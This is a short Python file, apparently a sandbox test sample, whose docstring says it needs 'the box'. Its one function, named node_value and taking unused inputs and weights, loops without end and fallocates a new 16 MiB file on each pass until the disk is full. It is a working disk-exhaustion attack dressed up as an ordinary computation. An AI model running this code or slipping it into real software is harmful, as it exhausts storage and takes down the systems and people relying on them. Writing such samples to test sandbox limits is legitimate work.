"""Asks the file system for room, which it gives at once. Ends: broken. Needs the box."""

import itertools
import os


def node_value(inputs, weights):
    for number in itertools.count():
        with open(str(number), "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2**24)
